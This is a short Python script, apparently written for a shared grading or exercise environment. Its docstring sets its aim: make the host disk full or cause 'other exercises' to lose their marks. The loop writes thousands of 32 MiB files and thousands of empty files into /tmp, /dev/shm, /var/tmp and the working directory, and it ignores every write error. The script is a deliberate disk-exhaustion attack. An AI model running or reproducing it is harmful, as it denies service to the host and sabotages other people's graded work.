"""Fills every place it can write to, with large files and with many small ones.

Success: the disk of the host is full, or other exercises lose their marks.
"""

for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
    for size in (32 << 20, 0):
        try:
            for number in range(2000):
                open(f"{folder}/{size}-{number}", "wb").write(bytes(size))
        except OSError:
            pass
